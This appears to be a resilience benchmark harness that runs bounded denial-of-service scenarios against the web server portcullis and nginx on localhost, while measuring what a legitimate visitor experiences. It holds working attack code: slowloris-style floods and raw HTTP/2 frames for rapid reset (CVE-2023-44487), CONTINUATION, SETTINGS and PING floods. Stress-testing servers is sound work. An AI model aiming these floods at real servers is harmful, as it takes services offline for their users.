#!/usr/bin/env python3
"""The attack harness of bench/attack/run.sh: each scenario against portcullis and nginx in the
same run, while a legitimate client measures what a visitor sees.

    attack.py --dir RUNDIR --portcullis BIN [--short] [--only NAME,...] --out results.jsonl

RUNDIR holds cert.pem, key.pem and www/ (made by run.sh) and receives the logs. The servers run
pinned to core 0, attackers and the legitimate client to core 1, everything on 127.0.0.1.
Every scenario is bounded in count and time and every process started here ends with it.

The legitimate client opens a new TLS connection for each request (a new visitor: the hardest
case under a connection flood), ten a second, each with a 5 s deadline, and records whether
it got a 200 and how long it took. Around each scenario the server's RSS, open descriptors and
CPU are sampled; after it, how long RSS and descriptors take to come back to their baseline.
"""
import argparse
import asyncio
import json
import logging
import os
import random
import re
import signal
import socket
import ssl
import statistics
import struct
import subprocess
import sys
import threading
import time

SERVER_CORE = "0"
CLIENT_CORE = "1"
CLK_TCK = os.sysconf("SC_CLK_TCK")
LEGIT_RATE = 10  # requests per second, each on a new connection
LEGIT_TIMEOUT = 5.0
RECOVERY_LIMIT = 15.0  # seconds allowed for fds and RSS to come back
# Process handling shared with the benchmark: every process started ends with this one.
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from measure import free_port, kill_all, spawn  # noqa: E402


def client_context(alpn=("http/1.1",)):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(list(alpn))
    return ctx


# ---------------------------------------------------------------------------------------------
# servers


class Server:
    """portcullis serve or nginx, one worker, serving RUNDIR/www over TLS."""

    def __init__(self, kind, run_dir, portcullis, extra=(), nofile=None, nginx_conns=4096):
        self.kind, self.run_dir, self.bin, self.extra = kind, run_dir, portcullis, list(extra)
        self.nofile, self.nginx_conns = nofile, nginx_conns
        self.port = free_port()
        self.proc = None

    def command(self):
        cert, key = (os.path.join(self.run_dir, f) for f in ("cert.pem", "key.pem"))
        pin = ["taskset", "-c", SERVER_CORE]
        if self.nofile:
            pin = ["prlimit", f"--nofile={self.nofile}:{self.nofile}"] + pin
        www = os.path.join(self.run_dir, "www")
        if self.kind == "portcullis":
            return pin + [self.bin, "serve", "--workers", "1", "--access-log", "off",
                          "--listen", f"127.0.0.1:{self.port}", "--cert", cert, "--key", key,
                          *self.extra, www]
        prefix = os.path.join(self.run_dir, f"nginx-{self.port}")
        os.makedirs(os.path.join(prefix, "logs"), exist_ok=True)
        with open(os.path.join(prefix, "nginx.conf"), "w") as f:
            f.write(nginx_conf(self.port, cert, key, www, self.nginx_conns, self.nofile))
        return pin + ["nginx", "-p", prefix, "-c", "nginx.conf", "-g", "daemon off;"]

    def start(self):
        self.log_path = os.path.join(self.run_dir, f"{self.kind}-{self.port}.log")
        self.proc = spawn(self.command(), open(self.log_path, "ab"))
        deadline = time.time() + 30
        while time.time() < deadline:
            if self.proc.poll() is not None:
                raise RuntimeError(f"{self.kind} exited: see {self.log_path}")
            try:
                socket.create_connection(("127.0.0.1", self.port), timeout=1).close()
                if legit_once(self.port)[0]:
                    return self
            except OSError:
                pass
            time.sleep(0.1)
        raise RuntimeError(f"{self.kind} did not start: see {self.log_path}")

    def stop(self):
        """Stops the server and every process of it (nginx's worker may outlive its master by a
        moment: the next scenario must not start beside it)."""
        if self.proc and self.proc.poll() is None:
            pids = self.pids()
            os.killpg(self.proc.pid, signal.SIGTERM)
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                os.killpg(self.proc.pid, signal.SIGKILL)
                self.proc.wait()
            deadline = time.monotonic() + 10
            for pid in pids[1:]:
                while alive(pid):
                    if time.monotonic() > deadline:
                        os.kill(pid, signal.SIGKILL)
                        deadline = time.monotonic() + 10
                    time.sleep(0.05)

    def pids(self):
        """The serving processes: nginx's master and worker, or portcullis."""
        out, todo = [], [self.proc.pid]
        while todo:
            pid = todo.pop()
            out.append(pid)
            try:
                with open(f"/proc/{pid}/task/{pid}/children") as f:
                    todo.extend(int(p) for p in f.read().split())
            except OSError:
                pass
        # prlimit and taskset exec into the server: the pid is the server's own.
        return out

    def rss(self):
        total = 0
        for pid in self.pids():
            try:
                with open(f"/proc/{pid}/status") as f:
                    for line in f:
                        if line.startswith("VmRSS:"):
                            total += int(line.split()[1]) * 1024
            except OSError:
                pass
        return total

    def fds(self):
        total = 0
        for pid in self.pids():
            try:
                total += len(os.listdir(f"/proc/{pid}/fd"))
            except OSError:
                pass
        return total

    def cpu(self):
        total = 0
        for pid in self.pids():
            try:
                with open(f"/proc/{pid}/stat") as f:
                    fields = f.read().rsplit(")", 1)[1].split()
                total += int(fields[11]) + int(fields[12])
            except OSError:
                pass
        return total / CLK_TCK

    def panicked(self):
        with open(self.log_path, "rb") as f:
            return b"panicked" in f.read()


def alive(pid):
    """Whether `pid` still runs (a zombie, whose parent has gone, counts as gone)."""
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def nginx_conf(port, cert, key, www, conns, nofile):
    version = subprocess.run(["nginx", "-v"], capture_output=True, text=True).stderr
    major, minor, patch = map(int, re.search(r"nginx/(\d+)\.(\d+)\.(\d+)", version).groups())
    if (major, minor, patch) >= (1, 25, 1):
        listen = f"listen 127.0.0.1:{port} ssl;\n        http2 on;"
    else:
        listen = f"listen 127.0.0.1:{port} ssl http2;"
    rlimit = "" if nofile else "worker_rlimit_nofile 65536;"
    # A typical production setup: one worker, nginx's default timeouts, TLS 1.2/1.3, HTTP/2.
    return f"""
worker_processes 1;
{rlimit}
pid nginx.pid;
error_log logs/error.log crit;
events {{ worker_connections {conns}; }}
http {{
    access_log off;
    default_type application/octet-stream;
    types {{ text/html html; }}
    sendfile on;
    ssl_protocols TLSv1.2 TLSv1.3;
    ssl_certificate {cert};
    ssl_certificate_key {key};
    ssl_session_cache shared:SSL:10m;
    server {{
        {listen}
        server_name localhost;
        root {www};
    }}
}}
"""


# ---------------------------------------------------------------------------------------------
# the legitimate client


def legit_once(port, timeout=LEGIT_TIMEOUT):
    """One new visitor: connect, handshake, GET /, read the response. (ok, seconds)."""
    start = time.monotonic()
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=timeout) as raw:
            raw.settimeout(max(0.1, timeout - (time.monotonic() - start)))
            with client_context().wrap_socket(raw, server_hostname="localhost") as tls:
                tls.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
                data = b""
                while time.monotonic() - start < timeout:
                    more = tls.recv(65536)
                    if not more:
                        break
                    data += more
        ok = data.startswith(b"HTTP/1.1 200") and data.endswith(b"portcullis attack harness\n")
    except (OSError, ssl.SSLError):
        ok = False
    return ok, time.monotonic() - start


class Legit(threading.Thread):
    """LEGIT_RATE new visitors a second until stopped; the results of each."""

    def __init__(self, port):
        super().__init__(daemon=True)
        self.port, self.results, self.stopping = port, [], threading.Event()

    def run(self):
        os.sched_setaffinity(0, {int(CLIENT_CORE)})
        interval = 1 / LEGIT_RATE
        pending = []
        next_at = time.monotonic()
        while not self.stopping.is_set():
            t = threading.Thread(target=lambda: self.results.append(legit_once(self.port)), daemon=True)
            t.start()
            pending.append(t)
            next_at += interval
            time.sleep(max(0, next_at - time.monotonic()))
        for t in pending:
            t.join(LEGIT_TIMEOUT + 1)

    def summary(self):
        done = list(self.results)
        ok = [s for good, s in done if good]
        lat = sorted(ok)
        pct = lambda q: round(lat[min(len(lat) - 1, int(q * len(lat)))] * 1000, 1) if lat else None
        return {"legit_requests": len(done),
                "legit_success": round(len(ok) / len(done), 4) if done else None,
                "legit_p50_ms": pct(0.50), "legit_p99_ms": pct(0.99)}


# ---------------------------------------------------------------------------------------------
# attackers: each is a function (port, seconds, server) that runs the attack and returns a dict
# of what it did; run on the client core.


def slowhttptest(mode, conns, extra=()):
    def attack(port, seconds, server):
        url = f"https://127.0.0.1:{port}/" + ("big.bin" if mode == "-X" else "")
        cmd = ["taskset", "-c", CLIENT_CORE, "slowhttptest", mode, "-c", str(conns), "-r",
               str(min(conns, 500)), "-l", str(int(seconds)), "-u", url, "-o",
               os.path.join(server.run_dir, f"slowhttptest-{port}"), *extra]
        out = subprocess.run(cmd, capture_output=True, text=True, timeout=seconds + 60)
        # Its status report, every second, is coloured: "connected:   \x1b[1;32m   1500".
        text = re.sub(r"\x1b\[[0-9;]*m", "", out.stdout + out.stderr)
        count = lambda what: max(map(int, re.findall(rf"{what}:\s+(\d+)", text)), default=None)
        return {"attack": " ".join(cmd[3:]).replace(str(port), "PORT"),
                "attack_connected_max": count("connected"), "attack_closed_max": count("closed")}
    return attack


def tls_hello(port, seconds, server, processes=4):
    """New TLS connections (full handshakes) as fast as the client core makes them."""
    procs = [spawn(["taskset", "-c", CLIENT_CORE, "openssl", "s_time", "-connect",
                    f"127.0.0.1:{port}", "-new", "-time", str(int(seconds))],
                   subprocess.PIPE) for _ in range(processes)]
    total = 0
    for p in procs:
        out, _ = p.communicate(timeout=seconds + 30)
        m = re.search(rb"(\d+) connections in", out or b"")
        total += int(m.group(1)) if m else 0
    return {"attack": f"{processes} x openssl s_time -new -time {int(seconds)}",
            "handshakes": total, "handshakes_per_s": round(total / seconds)}


def idle_flood(count):
    """`count` idle keep-alive TLS connections, each having made one request, held open."""
    def attack(port, seconds, server):
        async def run():
            ctx = client_context()
            held, failed = [], 0

            async def one():
                nonlocal failed
                try:
                    r, w = await asyncio.wait_for(asyncio.open_connection(
                        "127.0.0.1", port, ssl=ctx, server_hostname="localhost"), 10)
                    w.write(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
                    await asyncio.wait_for(r.readuntil(b"\r\n\r\n"), 10)
                    held.append(w)
                except (OSError, ssl.SSLError, asyncio.TimeoutError, asyncio.IncompleteReadError):
                    failed += 1

            for i in range(0, count, 100):
                await asyncio.gather(*(one() for _ in range(min(100, count - i))))
            await asyncio.sleep(seconds)
            alive = sum(1 for w in held if not w.is_closing())
            for w in held:
                w.close()
            return {"attack": f"{count} idle keep-alive connections held {int(seconds)} s",
                    "opened": len(held), "refused": failed}
        return asyncio.run(run())
    return attack


def client_hello_prefix():
    """The first bytes of a real ClientHello (from Python's ssl), for truncated handshakes."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = client_context().wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def hostile(total, concurrency=500):
    """`total` connections that are not TLS clients: random bytes, truncated ClientHellos,
    plain HTTP, or nothing at all (connect, then close or wait)."""
    def attack(port, seconds, server):
        hello = client_hello_prefix()
        kinds = {"random": 0, "truncated": 0, "plain": 0, "nothing": 0}

        async def one(i):
            kind = list(kinds)[i % 4]
            kinds[kind] += 1
            try:
                r, w = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port), 5)
                if kind == "random":
                    w.write(os.urandom(random.randint(1, 2048)))
                elif kind == "truncated":
                    w.write(hello[:random.randint(1, len(hello) - 1)])
                elif kind == "plain":
                    w.write(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
                await asyncio.sleep(random.random() * 0.5)
                w.close()
            except (OSError, asyncio.TimeoutError):
                pass

        async def run():
            sem = asyncio.Semaphore(concurrency)
            deadline = time.monotonic() + seconds * 3

            async def guarded(i):
                async with sem:
                    if time.monotonic() < deadline:
                        await one(i)

            await asyncio.gather(*(guarded(i) for i in range(total)))
        asyncio.run(run())
        return {"attack": f"{total} hostile connections, {concurrency} at once", **kinds}
    return attack


# --- HTTP/2 by hand: frames written raw, HPACK from the static table --------------------------

H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request_block():
    # :method GET, :scheme https, :path /, :authority localhost (literal, indexed name 1).
    return b"\x82\x87\x84" + b"\x41\x09localhost"


async def h2_connect(port):
    r, w = await asyncio.wait_for(asyncio.open_connection(
        "127.0.0.1", port, ssl=client_context(("h2",)), server_hostname="localhost"), 10)
    w.write(H2_PREFACE + frame(0x4, 0, 0))  # SETTINGS, empty
    return r, w


async def drain_reader(r, stop):
    """Reads and drops what the server sends (so its writes never block), until EOF or stop."""
    got = 0
    try:
        while not stop.is_set():
            try:
                data = await asyncio.wait_for(r.read(65536), 1)
            except asyncio.TimeoutError:
                continue  # nothing for a second: look at `stop` again
            if not data:
                return got, True
            got += len(data)
    except (OSError, ssl.SSLError, asyncio.IncompleteReadError):
        return got, True
    return got, False


def h2_attack(name, build, connections=4, read=True):
    """Runs `build(writer, seconds)` on `connections` HTTP/2 connections in parallel; counts how
    many the server closed (GOAWAY or EOF)."""
    def attack(port, seconds, server):
        async def run():
            stop = asyncio.Event()
            closed = 0
            sent = 0

            async def conn():
                nonlocal closed, sent
                try:
                    r, w = await h2_connect(port)
                except (OSError, ssl.SSLError, asyncio.TimeoutError):
                    return
                reader = asyncio.create_task(drain_reader(r, stop)) if read else None
                cut = False
                try:
                    sent += await build(w, seconds)
                except (OSError, ssl.SSLError, ConnectionError):
                    cut = True  # the server closed the connection under the writes
                # Closed under us: an error while writing, a transport closing that we did not
                # close (the server's GOAWAY and close), or the end of stream read.
                cut = cut or w.is_closing()
                stop.set()
                if reader:
                    _, eof = await reader
                    cut = cut or eof
                closed += cut
                w.close()

            await asyncio.gather(*(conn() for _ in range(connections)))
            return {"attack": name, "frames_or_streams": sent, "connections_closed_by_server": closed}
        return asyncio.run(run())
    return attack


async def drained(w, deadline):
    """Waits for the writes to be taken, until `deadline`: False when the server stopped
    reading (it pushes back on a peer that does not read its answers) or the time is up."""
    try:
        await asyncio.wait_for(w.drain(), max(0.01, deadline - time.monotonic()))
        return not w.is_closing()
    except asyncio.TimeoutError:
        return False


async def _paced(w, seconds, one):
    """Writes `one(i)` in batches for `seconds`, yielding to the reader between batches; the
    count is of frames the server's socket took."""
    deadline = time.monotonic() + seconds
    i = 0
    while time.monotonic() < deadline:
        for _ in range(100):
            w.write(one(i))
            i += 1
        if not await drained(w, deadline):
            break
    return i


async def rapid_reset(w, seconds):
    return await _paced(w, seconds, lambda i: frame(0x1, 0x5, 2 * i + 1, request_block())
                        + frame(0x3, 0, 2 * i + 1, struct.pack(">I", 8)))  # RST_STREAM CANCEL


async def continuation_flood(w, seconds):
    # One HEADERS without END_HEADERS, then CONTINUATION frames that never end it.
    w.write(frame(0x1, 0x1, 1, request_block()))
    junk = b"\x40\x05x-pad\x10" + b"a" * 16  # literal header x-pad: 16 bytes
    return await _paced(w, seconds, lambda i: frame(0x9, 0, 1, junk * 50))


async def settings_flood(w, seconds):
    return await _paced(w, seconds, lambda i: frame(0x4, 0, 0, struct.pack(">HI", 0x3, 100)))


async def ping_flood(w, seconds):
    return await _paced(w, seconds, lambda i: frame(0x6, 0, 0, struct.pack(">Q", i)))


async def many_streams(w, seconds):
    # Complete requests as fast as they can be written, up to 100,000 streams.
    deadline = time.monotonic() + seconds
    i = 0
    while time.monotonic() < deadline and i < 100_000:
        for _ in range(100):
            w.write(frame(0x1, 0x5, 2 * i + 1, request_block()))
            i += 1
        if not await drained(w, deadline):
            break
    return i


def fd_limited_clients(count):
    """`count` keep-alive clients each making requests in a loop (the server runs with 256 fds)."""
    def attack(port, seconds, server):
        async def run():
            ctx = client_context()
            ok = failed = 0
            deadline = time.monotonic() + seconds

            async def client():
                nonlocal ok, failed
                while time.monotonic() < deadline:
                    try:
                        r, w = await asyncio.wait_for(asyncio.open_connection(
                            "127.0.0.1", port, ssl=ctx, server_hostname="localhost"), 5)
                        while time.monotonic() < deadline:
                            w.write(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
                            head = await asyncio.wait_for(r.readuntil(b"\r\n\r\n"), 5)
                            n = int(re.search(rb"(?i)content-length: *(\d+)", head).group(1))
                            await r.readexactly(n)
                            ok += 1
                            await asyncio.sleep(0.2)
                        w.close()
                    except (OSError, ssl.SSLError, asyncio.TimeoutError,
                            asyncio.IncompleteReadError, AttributeError):
                        failed += 1
                        await asyncio.sleep(0.2)

            await asyncio.gather(*(client() for _ in range(count)))
            return {"attack": f"{count} keep-alive clients, server limited to 256 fds",
                    "their_requests_ok": ok, "their_failures": failed}
        return asyncio.run(run())
    return attack


def connect_burst(count):
    """`count` TCP connects at once: how long they take, and listen-queue overflows."""
    def attack(port, seconds, server):
        before = listen_overflows()

        async def run():
            times = []

            async def one():
                start = time.monotonic()
                try:
                    _, w = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port), 10)
                    times.append(time.monotonic() - start)
                    await asyncio.sleep(1)
                    w.close()
                except (OSError, asyncio.TimeoutError):
                    pass
            await asyncio.gather(*(one() for _ in range(count)))
            return times
        times = sorted(asyncio.run(run()))
        return {"attack": f"{count} TCP connects at once", "connected": len(times),
                "connect_p50_ms": round(times[len(times) // 2] * 1000, 1) if times else None,
                "connect_max_ms": round(times[-1] * 1000, 1) if times else None,
                "listen_overflows": listen_overflows() - before}
    return attack


def listen_overflows():
    with open("/proc/net/netstat") as f:
        lines = f.read().splitlines()
    for head, values in zip(lines[::2], lines[1::2]):
        if head.startswith("TcpExt:"):
            return int(dict(zip(head.split()[1:], values.split()[1:]))["ListenOverflows"])
    return 0


# ---------------------------------------------------------------------------------------------
# scenarios: (name, attacker, seconds full, seconds short, server options)


def scenarios(short):
    s = lambda full, quick: quick if short else full
    n = lambda full, quick: quick if short else full
    return [
        ("slowloris", slowhttptest("-H", n(1500, 500), ["-i", "10"]), s(60, 10), {}),
        ("slow body", slowhttptest("-B", n(1500, 500), ["-i", "10", "-s", "8192"]), s(60, 10), {}),
        ("slow read", slowhttptest("-X", n(1000, 300), ["-w", "512", "-y", "1024", "-n", "5", "-z", "32", "-k", "3"]), s(60, 10), {}),
        ("handshake flood", tls_hello, s(30, 8), {}),
        ("idle 10x max_connections, LRU purge on", idle_flood(n(1000, 400)), s(15, 5),
         {"portcullis": ["--max-connections", str(n(100, 40))], "nginx_conns": n(100, 40)}),
        ("idle 10x max_connections, LRU purge off", idle_flood(n(1000, 400)), s(15, 5),
         {"portcullis": ["--max-connections", str(n(100, 40)), "--no-lru-purge"], "nginx_conns": n(100, 40)}),
        ("20k hostile connections", hostile(n(20000, 3000)), s(30, 10), {}),
        ("h2 rapid reset (CVE-2023-44487)", h2_attack("HEADERS + RST_STREAM, 4 connections", rapid_reset), s(20, 8), {}),
        ("h2 CONTINUATION flood (CVE-2024-27316)", h2_attack("CONTINUATION without end, 4 connections", continuation_flood), s(20, 8), {}),
        ("h2 SETTINGS flood", h2_attack("SETTINGS frames, responses unread, 4 connections", settings_flood, read=False), s(20, 8), {}),
        ("h2 PING flood", h2_attack("PING frames, responses unread, 4 connections", ping_flood, read=False), s(20, 8), {}),
        ("h2 100k streams", h2_attack("complete requests, 4 connections", many_streams), s(20, 8), {}),
        ("fd limit 256, 400 clients", fd_limited_clients(n(400, 400)), s(30, 8), {"nofile": 256}),
        ("connect burst 2,000", connect_burst(2000), s(5, 5), {}),
    ]


# ---------------------------------------------------------------------------------------------


def settle(server, baseline_fds, baseline_rss, fds_only=False):
    """Seconds until fds and RSS are back within 10% (fds: or +5) of the baseline, or None.
    `fds_only` (the short mode, which checks descriptors only) does not wait for RSS."""
    start = time.monotonic()
    while time.monotonic() - start < RECOVERY_LIMIT:
        fds, rss = server.fds(), server.rss()
        if fds <= max(baseline_fds * 1.1, baseline_fds + 5) and (
                fds_only or rss <= baseline_rss * 1.1):
            return round(time.monotonic() - start, 1), fds, rss
        time.sleep(0.5)
    return None, server.fds(), server.rss()


def run_one(kind, name, attack, seconds, options, args):
    extra = options.get("portcullis", []) if kind == "portcullis" else []
    server = Server(kind, args.dir, args.portcullis, extra=extra, nofile=options.get("nofile"),
                    nginx_conns=options.get("nginx_conns", 4096)).start()
    try:
        time.sleep(1)
        base_fds, base_rss, cpu0 = server.fds(), server.rss(), server.cpu()
        legit = Legit(server.port)
        peak = {"rss": base_rss, "fds": base_fds}
        sampling = threading.Event()

        def sample():
            while not sampling.is_set():
                peak["rss"] = max(peak["rss"], server.rss())
                peak["fds"] = max(peak["fds"], server.fds())
                time.sleep(0.25)
        sampler = threading.Thread(target=sample, daemon=True)
        sampler.start()
        legit.start()
        time.sleep(1)
        os.sched_setaffinity(0, {int(CLIENT_CORE)})
        did = attack(server.port, seconds, server)
        time.sleep(1)
        legit.stopping.set()
        legit.join()
        sampling.set()
        sampler.join()
        cpu = server.cpu() - cpu0
        recovered, fds_after, rss_after = settle(server, base_fds, base_rss, fds_only=args.short)
        row = {"scenario": name, "server": kind, "seconds": seconds, **legit.summary(),
               "rss_base": base_rss, "rss_peak": peak["rss"], "rss_after": rss_after,
               "fds_base": base_fds, "fds_peak": peak["fds"], "fds_after": fds_after,
               "recovered_s": recovered, "server_cpu_s": round(cpu, 2),
               "panicked": server.panicked() if kind == "portcullis" else False, **did}
        return row
    finally:
        server.stop()


def main():
    # asyncio warns on every write to a socket the server closed: the floods expect that.
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)
    ap = argparse.ArgumentParser()
    ap.add_argument("--dir", required=True)
    ap.add_argument("--portcullis", required=True)
    ap.add_argument("--out", required=True)
    ap.add_argument("--short", action="store_true")
    ap.add_argument("--only", default="")
    ap.add_argument("--servers", default="portcullis,nginx")
    args = ap.parse_args()
    only = [o.strip() for o in args.only.split(",") if o.strip()]
    try:
        with open(args.out, "a") as out:
            for name, attack, seconds, options in scenarios(args.short):
                if only and not any(o in name for o in only):
                    continue
                for kind in args.servers.split(","):
                    print(f"{name:45} {kind:10} ...", end="", flush=True, file=sys.stderr)
                    try:
                        row = run_one(kind, name, attack, seconds, options, args)
                    except Exception as e:  # a scenario that cannot run is reported, not hidden
                        row = {"scenario": name, "server": kind, "error": repr(e)}
                    out.write(json.dumps(row) + "\n")
                    out.flush()
                    print(" success {legit_success} p50 {legit_p50_ms} p99 {legit_p99_ms} "
                          "fds {fds_base}->{fds_peak}->{fds_after} rss {rss_peak} recovered {recovered_s}"
                          .format_map(DefaultDict(row)), file=sys.stderr)
    finally:
        kill_all()


class DefaultDict(dict):
    def __missing__(self, key):
        return self.get("error", "?") if key == "legit_success" else "?"


if __name__ == "__main__":
    main()
